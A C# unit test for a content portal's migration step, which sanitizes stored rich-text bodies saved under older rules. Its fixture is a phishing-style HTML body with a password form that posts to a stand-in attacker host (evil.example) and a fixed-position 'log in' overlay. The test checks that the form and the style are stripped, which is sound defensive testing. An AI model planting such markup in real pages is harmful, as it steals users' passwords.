using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.Logging.Abstractions;
using Verkostoportaali.Core.Content;
using Verkostoportaali.Core.Data;
using Verkostoportaali.Testing;

namespace Verkostoportaali.Contents.Tests.RichText;

[Collection(PortalCollection.Name)]
public sealed class StoredBodiesTests(PortalHost host)
{
    [Fact]
    public async Task The_data_step_cleans_a_body_saved_under_the_old_rules_and_keeps_its_text()
    {
        var site = await host.CreateSiteAsync();
        var page = await host.AddPageAsync(site, "Vanha sivu", "PAIKKA", publish: true);
        const string old = "<p>Istunto vanheni.</p><form action=\\\"https://evil.example/\\\"><input type=\\\"password\\\"></form>"
            + "<div style=\\\"position: fixed\\\">Kirjaudu</div>";
        await host.InTenantAsync<TenantDbContext, int>(site, db =>
            db.Database.ExecuteSqlRawAsync("""UPDATE "ContentItems" SET "Data" = replace("Data", 'PAIKKA', {0})""", old));

        await host.InTenantAsync<TenantDbContext, bool>(site, async db =>
        {
            await new ContentsModule().Migrations().Single(s => s.Number == 1).Data!(db, NullLogger.Instance, default);
            return true;
        });

        var body = (await host.InTenantAsync<ContentManager, ContentItem?>(site,
            content => content.GetAsync(page.ContentItemId, VersionOptions.Published)))!.Get<BodyPart>()!.Html;
        Assert.Equal("<p>Istunto vanheni.</p><div>Kirjaudu</div>", body);
    }
}
